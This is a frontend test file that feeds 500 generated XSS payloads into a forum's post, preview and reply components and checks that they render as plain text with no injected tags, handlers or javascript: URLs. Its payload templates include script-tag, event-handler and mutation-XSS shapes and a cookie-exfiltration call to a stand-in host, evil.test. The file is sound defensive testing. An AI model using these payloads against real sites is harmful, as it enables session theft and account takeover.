import type { ForumPost, ForumReply } from '@klang/domain';
import { cleanup, render } from '@testing-library/react';
import { MemoryRouter } from 'react-router';
import { afterEach, describe, expect, it } from 'vitest';
import { PostDetailCard } from './post-detail-card';
import { PostPreviewCard } from './post-preview-card';
import { ReplyThread } from './reply-thread';

/**
 * 500 hostile strings, built from the shapes real payloads take: a tag or a breakout, an event
 * handler or a scheme, and an encoding trick. Post content is plain text (spec 002 §2.8).
 */
function xssPayloads(): string[] {
  const openers = [
    '<script>{js}</script>',
    '<img src=x {handler}={js}>',
    '<svg {handler}={js}>',
    '<iframe src="javascript:{js}"></iframe>',
    '<a href="javascript:{js}">x</a>',
    '"><script>{js}</script>',
    "'><img src=x {handler}={js}>",
    '<body {handler}={js}>',
    '<details open {handler}={js}>',
    '<math><mtext><table><mglyph><style><img src=x {handler}={js}>',
    '</textarea><script>{js}</script>',
    '<input autofocus {handler}={js}>',
    '<div style="background:url(javascript:{js})">',
    '<object data="javascript:{js}">',
    '<video><source {handler}={js}>',
    '<marquee {handler}={js}>',
    '<!--<img src="--><img src=x {handler}={js}>',
    '<scr<script>ipt>{js}</scr</script>ipt>',
    '<<script>{js};//<</script>',
    '<form action="javascript:{js}"><button>x</button></form>',
    '{{constructor.constructor("{js}")()}}',
    '${{js}}',
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>',
    '<iframe srcdoc="<script>{js}</script>">',
    '<svg><animate attributeName=href values=javascript:{js} /><a><text>x</text></a></svg>',
  ];
  const handlers = ['onerror', 'onload', 'onfocus', 'onmouseover'];
  const scripts = [
    'alert(1)',
    'alert(document.cookie)',
    "fetch('//evil.test/'+document.cookie)",
    'window.__xss=1',
    'eval(atob("YWxlcnQoMSk="))',
  ];
  const wrappers = ['{p}', 'Nice track {p}', '{p}\nsecond line', '</p></div>{p}'];
  const payloads = new Set<string>();
  for (const opener of openers) {
    for (const handler of handlers) {
      for (const js of scripts) {
        for (const wrapper of wrappers) {
          payloads.add(
            wrapper.replace('{p}', opener.replaceAll('{handler}', handler).replaceAll('{js}', js)),
          );
        }
      }
    }
  }
  // Evenly spread over every shape, rather than the first 500 of the first few.
  const all = [...payloads];
  return Array.from({ length: 500 }, (_, i) => all[Math.floor((i * all.length) / 500)] ?? '');
}

const payloads = xssPayloads();

const basePost: ForumPost = {
  id: '11111111-1111-4111-8111-111111111111',
  title: '',
  content: '',
  category: { id: '22222222-2222-4222-8222-222222222222', name: 'General', color: '#FF383A' },
  author: { name: 'Someone', avatarUrl: null, isAdmin: false, isVerified: false },
  isAnonymous: false,
  isMine: false,
  isPinned: false,
  isLocked: false,
  viewCount: 0,
  replyCount: 0,
  upvotes: 0,
  downvotes: 0,
  userVote: null,
  createdAt: new Date().toISOString(),
  lastReplyAt: new Date().toISOString(),
};

const noop = () => undefined;
/** 500 renders take seconds on a busy machine; the default 5 s is for one behaviour, not a corpus. */
const RENDER_ALL_MS = 60_000;
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href', 'style'];

/** Every element the render produced, checked for anything a payload could have injected. */
function expectNoInjectedMarkup(container: HTMLElement) {
  for (const element of container.querySelectorAll('*')) {
    expect([
      'SCRIPT',
      'IFRAME',
      'OBJECT',
      'EMBED',
      'STYLE',
      'FORM',
      'INPUT',
      'VIDEO',
      'MARQUEE',
      'DETAILS',
    ]).not.toContain(element.tagName);
    for (const attribute of element.attributes) {
      expect(attribute.name.startsWith('on'), `${element.tagName} ${attribute.name}`).toBe(false);
      // Text attributes (aria-label) may quote a payload; a URL attribute must never carry one.
      if (URL_ATTRIBUTES.includes(attribute.name))
        expect(attribute.value.toLowerCase()).not.toContain('javascript:');
    }
  }
}

describe('forum content renders hostile input as text', () => {
  afterEach(cleanup);

  it(`has 500 distinct payloads`, () => {
    expect(payloads).toHaveLength(500);
  });

  it(
    'shows every payload verbatim in a post title and body, injecting nothing',
    () => {
      for (const payload of payloads) {
        const post = { ...basePost, title: payload, content: `${payload}\n${payload}` };
        const { container, unmount } = render(
          <PostDetailCard
            post={post}
            isAdmin={false}
            onVote={noop}
            isVoting={false}
            onDelete={noop}
            onModerate={noop}
            isModerating={false}
          />,
        );
        expect(container.querySelector('h1')?.textContent).toBe(payload);
        expect(container.textContent).toContain(`${payload}\n${payload}`);
        expectNoInjectedMarkup(container);
        unmount();
      }
    },
    RENDER_ALL_MS,
  );

  it(
    'shows every payload verbatim in a list preview and in a reply',
    () => {
      for (const payload of payloads) {
        const reply: ForumReply = {
          id: '33333333-3333-4333-8333-333333333333',
          postId: basePost.id,
          parentReplyId: null,
          content: payload,
          author: { name: payload, avatarUrl: null, isAdmin: false, isVerified: false },
          isAnonymous: false,
          isMine: false,
          isStarred: false,
          createdAt: basePost.createdAt,
        };
        const { container, unmount } = render(
          <MemoryRouter>
            <PostPreviewCard post={{ ...basePost, title: payload, preview: payload }} href="/forum/post/x" />
            <ReplyThread
              replies={[reply]}
              isAdmin
              canReply
              onReplyTo={noop}
              onToggleStar={noop}
              onDelete={noop}
            />
          </MemoryRouter>,
        );
        expect(container.querySelector('h2')?.textContent).toBe(payload);
        // The preview, the reply's author name and the reply itself: three verbatim copies.
        expect(container.textContent.split(payload).length).toBeGreaterThanOrEqual(5);
        expectNoInjectedMarkup(container);
        unmount();
      }
    },
    RENDER_ALL_MS,
  );
});
